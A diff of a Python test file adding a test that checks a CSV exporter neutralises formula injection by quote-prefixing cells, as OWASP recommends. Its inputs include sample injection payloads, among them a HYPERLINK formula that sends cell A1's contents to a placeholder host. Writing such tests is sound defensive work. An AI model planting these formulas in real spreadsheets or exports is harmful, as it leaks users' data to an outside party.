@@ -4,6 +4,7 @@ followed through the API and the pages, from the command line, and purged when e
 
 from __future__ import annotations
 
+import csv
 import io
 from datetime import UTC, date, datetime, timedelta
 from typing import Any
@@ -35,6 +36,17 @@ def test_formula_looking_text_is_written_as_text(value: str) -> None:
     cell = sheet.cell(row=3, column=1)
     assert cell.data_type == "s" and cell.value == value
     assert sheet.cell(row=3, column=2).value == 7 and sheet.cell(row=4, column=2).value == 2.5
+
+
+@pytest.mark.parametrize(
+    "value", ['=HYPERLINK("http://x/?"&A1,"klik")', "+cmd", "@SUM(1)", "-2+3", "\tx", "\rx"]
+)
+def test_formula_looking_text_in_a_csv_gets_the_owasp_quote(value: str) -> None:
+    text = writers.to_csv(["a", "b"], [[value, -2], ["plain, with a comma", 2.5]])
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1] == ["'" + value, "-2"]  # text prefixed, a number left a number
+    assert rows[2] == ["plain, with a comma", "2.5"]
+    assert all(line.startswith('"') for line in text.split("\r\n") if line)  # all quoted
 
 
 def test_the_skp_list_exports_as_xlsx_and_pdf_for_its_requester_only(
